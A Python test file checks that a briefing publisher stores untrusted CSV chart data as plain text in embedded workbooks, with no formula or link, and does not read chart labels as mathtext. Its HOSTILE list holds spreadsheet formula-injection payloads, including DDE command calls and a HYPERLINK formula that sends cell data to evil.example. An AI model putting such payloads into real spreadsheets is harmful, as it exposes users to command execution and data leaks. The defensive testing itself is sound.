"""Charts under attack: CSV data and its sidecar are someone else's files, read and drawn as such."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from pathlib import Path

from lxml import etree

from briefpub import parse
from briefpub.deck.slides import render_slides
from briefpub.model.briefing import Briefing

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "http://evil.example/track",
    "mailto:a@evil.example",
    "1e5",
]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _write_project(folder: Path, csv: str, options: str = "", source_extra: str = "") -> Path:
    (folder / "data").mkdir(parents=True, exist_ok=True)
    (folder / "briefpub.toml").write_text("", encoding="utf-8")
    (folder / "data" / "d.csv").write_text(csv, encoding="utf-8", newline="")
    if options:
        (folder / "data" / "d.toml").write_text(options, encoding="utf-8")
    source = folder / "t.txt"
    source.write_text(
        f"Title\n\nWhat?\n\nAnswer: This.\n\n![Data](data/d.csv){source_extra}\n", encoding="utf-8"
    )
    return source


def _briefing(folder: Path, csv: str, options: str = "") -> Briefing:
    source = _write_project(folder, csv, options)
    return parse(source, root=folder, file="t.txt")


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _cells(deck: bytes) -> list[tuple[str, str | None, str | None, bool, str]]:
    """Return each cell of every embedded workbook: reference, type, value, has a formula, its text."""
    found = []
    with zipfile.ZipFile(io.BytesIO(deck)) as package:
        for name in package.namelist():
            if not (name.startswith("ppt/embeddings/") and name.endswith(".xlsx")):
                continue
            with zipfile.ZipFile(io.BytesIO(package.read(name))) as book:
                names = book.namelist()
                assert not any("hyperlink" in n.lower() or "externalLink" in n for n in names), names
                shared: list[str] = []
                if "xl/sharedStrings.xml" in names:
                    strings = etree.fromstring(book.read("xl/sharedStrings.xml"))
                    shared = ["".join(si.itertext()) for si in strings.iter(f"{_MAIN}si")]
                sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
                assert sheet.find(f"{_MAIN}hyperlinks") is None
                for rels in (n for n in names if n.endswith(".rels") and "worksheets" in n):
                    assert b"hyperlink" not in book.read(rels)
                for cell in sheet.iter(f"{_MAIN}c"):
                    value = cell.findtext(f"{_MAIN}v")
                    kind = cell.get("t")
                    text = shared[int(value)] if kind == "s" and value is not None else ""
                    if kind == "inlineStr":
                        text = "".join(cell.find(f"{_MAIN}is").itertext())
                    has_formula = cell.find(f"{_MAIN}f") is not None
                    found.append((cell.get("r", ""), kind, value, has_formula, text))
    return found


def test_csv_text_is_stored_as_text_in_the_deck_workbook_never_a_formula_or_link(tmp_path: Path) -> None:
    header = ",".join(_quoted(h) for h in ["Label", *HOSTILE[:3]])
    rows = [f"{_quoted(name)},{n},{-n},{n * 1.5}" for n, name in enumerate(HOSTILE, 1)]
    briefing = _briefing(tmp_path, header + "\n" + "\n".join(rows) + "\n")
    cells = _cells(render_slides(briefing))
    assert cells
    texts = {}
    for reference, kind, value, has_formula, text in cells:
        assert not has_formula, reference
        column, row = re.fullmatch(r"([A-Z]+)(\d+)", reference).groups()  # type: ignore[union-attr]
        if column == "A" or row == "1":  # categories and series names: text, cell by cell
            assert kind in ("s", "inlineStr"), (reference, kind)
            texts[reference] = text
        else:  # values: numbers
            assert kind in (None, "n"), (reference, kind)
            assert value is not None
            float(value)
    assert [texts[f"A{n}"] for n in range(2, len(HOSTILE) + 2)] == HOSTILE
    assert [texts[f"{c}1"] for c in "BCD"] == HOSTILE[:3]


def _pdf_text(briefing: Briefing) -> str:
    from briefpub.newsletter.pdf import render_pdf

    pdf = render_pdf(briefing)
    return subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()


def test_chart_text_is_never_read_as_mathtext(tmp_path: Path) -> None:
    csv = 'Range,"$x^2$ cost",$y$\n$5 to $10,1,2\n"$\\frac{a$",2,3\n$\\alpha$,3,4\n'
    options = 'x_title = "From $1 to $2"\ny_title = "$\\\\sqrt{2}$ units"\n'
    briefing = _briefing(tmp_path, csv, options)
    text = _pdf_text(briefing)
    for label in ("$5 to $10", "$\\frac{a$", "$\\alpha$", "From $1 to $2", "$\\sqrt{2}$ units", "$x^2$ cost"):
        assert label in text, label
    assert "$y$" in text
